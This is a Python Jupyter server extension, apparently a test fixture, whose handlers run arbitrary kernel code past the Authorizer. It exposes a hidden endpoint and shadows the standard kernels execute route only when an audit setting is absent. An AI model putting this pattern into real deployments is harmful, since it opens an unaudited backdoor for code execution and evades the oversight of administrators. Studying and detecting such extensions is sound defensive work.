"""
A server extension that runs code past websocket and Authorizer, as jupyter-server-nbmodel does: by a kernel client
of its own. `ExecuteHandler` stands for one that an admin has opened, `HiddenHandler` for one that nobody has looked at.
"""

from __future__ import annotations

from typing import Any

from jupyter_server.base.handlers import APIHandler
from tornado import web

CLIENTS: list[Any] = []
"""Kept: what a client that is thrown away has not sent yet is not sent."""


class ExecuteHandler(APIHandler):
    """POST {kernel_id, code}: runs the code, with nothing but a login asked for."""

    @web.authenticated
    async def post(self) -> None:
        body: Any = self.get_json_body()
        client = self.kernel_manager.get_kernel(body["kernel_id"]).client()
        client.start_channels()
        await client.wait_for_ready(timeout=60)
        client.execute(body["code"])
        CLIENTS.append(client)
        self.finish("{}")


class HiddenHandler(ExecuteHandler):
    """The same, at an address that no admin has opened."""


def _jupyter_server_extension_points() -> list[dict[str, str]]:
    return [{"module": "rogue"}]


def _load_jupyter_server_extension(app: Any) -> None:
    base = app.web_app.settings["base_url"].rstrip("/")
    routes = [(f"{base}/rogue/execute", ExecuteHandler), (f"{base}/rogue/hidden", HiddenHandler)]
    if "jupyter_audit" not in app.web_app.settings:
        routes.append((f"{base}/api/kernels/[^/]+/execute", ExecuteHandler))
    app.web_app.add_handlers(".*$", routes)
